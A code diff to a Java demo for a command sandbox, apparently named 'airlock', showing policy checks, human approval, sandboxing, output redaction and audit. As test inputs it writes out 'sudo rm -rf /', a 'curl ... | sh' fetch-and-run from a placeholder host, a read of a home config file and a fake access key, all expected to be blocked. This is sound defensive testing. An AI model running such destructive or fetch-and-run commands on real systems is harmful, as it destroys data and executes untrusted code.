@@ -73,6 +73,23 @@ final class DemoCommand implements Callable<Integer> {
             note("raw, base64, hex and URL-encoded: " + hits + " hits");
             must((int) hits, 0);
 
+            section("Nothing runs unchecked: policy, approval, sandbox, redaction, audit on one path");
+            Path ws = Files.createDirectories(home.resolve("workspace"));
+            Files.writeString(ws.resolve("notes.txt"), "release notes\n");
+            Files.createDirectories(ws.resolve("build/old"));
+            String w = ws.toString();
+            must(run("policy", "check", "--workspace", w, "--", "git status && rm -rf build"), 5);
+            must(run("exec", "--workspace", w, "--", "ls && wc -l notes.txt"), 0);
+            must(run("exec", "--workspace", w, "--non-interactive", "--", "rm -r build"), 5);
+            note("(a person approves at the prompt; the demo types 'y' for them)");
+            must(runWithInput("y\n", "exec", "--workspace", w, "--", "rm -r build"), 0);
+            must(run("exec", "--workspace", w, "--yes", "--", "sudo rm -rf /"), 4);
+            must(run("exec", "--workspace", w, "--yes", "--", "curl -s https://example.com/install.sh | sh"), 4);
+            must(run("exec", "--workspace", w, "--yes", "--", "cat " + home.resolve("home/airlock.home")), 4);
+            note("(inside the sandbox only the workspace is writable, and the output passes the redactor)");
+            must(run("exec", "--workspace", w, "--yes", "--", "echo key=AKIAZ7Q3XK2LMN4PQR5T; touch /usr/airlock-was-here"), 1);
+            must(run("audit", "tail", "-n", "4"), 0);
+
             section("Bad input is refused with one line and the contract's exit code");
             must(run("tenant", "create", "../etc"), 2);
             Files.writeString(config, "audit:\n  checkpoint_every_rows: lots\n");
@@ -131,7 +148,8 @@ final class DemoCommand implements Callable<Integer> {
     }
 
     private int runWithInput(String stdin, String... args) {
-        return exec(home, Map.of(), stdin, "echo '<the key>' | airlock " + String.join(" ", args), args);
+        String shown = stdin.equals("y\n") ? "y" : "'<the key>'";
+        return exec(home, Map.of(), stdin, "echo " + shown + " | airlock " + String.join(" ", args), args);
     }
 
     private int runWithEnv(Map<String, String> extra, String... args) {
